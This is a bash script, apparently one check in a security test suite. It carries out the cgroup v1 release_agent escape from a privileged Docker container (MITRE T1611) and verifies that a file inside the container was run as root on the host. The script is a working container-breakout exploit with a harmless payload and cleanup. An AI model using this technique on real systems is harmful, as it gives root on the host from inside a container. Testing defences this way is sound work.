#!/usr/bin/env bash
# Escapes from a privileged container by having the kernel run a cgroup v1 release agent on the host. MITRE ATT&CK T1611, Escape to Host.
. "$(dirname "$0")/lib.sh"

# The hierarchy is a new one with no controllers and this run's name: those of
# the host stay untouched, and it goes when its last group does. What runs on
# the host writes into this container's own layer, which goes with it.
bring_privileged --cgroupns=host || stopped "no privileged container: $problem"
later "docker exec $brought sh -c 'rmdir /tmp/cg/victim; umount /tmp/cg'"
out=$(docker exec "$brought" sh -c "
mkdir /tmp/cg && mount -t cgroup -o none,name=$mark cgroup /tmp/cg || exit 3
mkdir /tmp/cg/victim && echo 1 >/tmp/cg/victim/notify_on_release
layer=\$(sed -n 's/^overlay \/ .*upperdir=\([^,]*\).*/\1/p' /proc/mounts)
: >/escaped # already there when the layer below is written to
printf '#!/bin/sh\nreadlink /proc/self/ns/pid >%s/escaped\n' \"\$layer\" >/agent
chmod +x /agent
echo \"\$layer/agent\" >/tmp/cg/release_agent
sh -c 'echo \$\$ >/tmp/cg/victim/cgroup.procs'
for _ in \$(seq 30); do [ -s /escaped ] && break; sleep 0.3; done
cat /escaped" 2>&1)
case $? in
3) cannot "this kernel or engine gives no cgroup v1 hierarchy to mount: $out" ;;
esac
[[ $out == pid:* ]] || stopped "nothing ran on the host: $out"
[ "$out" != "$(docker exec "$brought" readlink /proc/self/ns/pid)" ] || stopped "it ran in the container only"
worked "the kernel ran the container's file as root of the host, in ${out}"
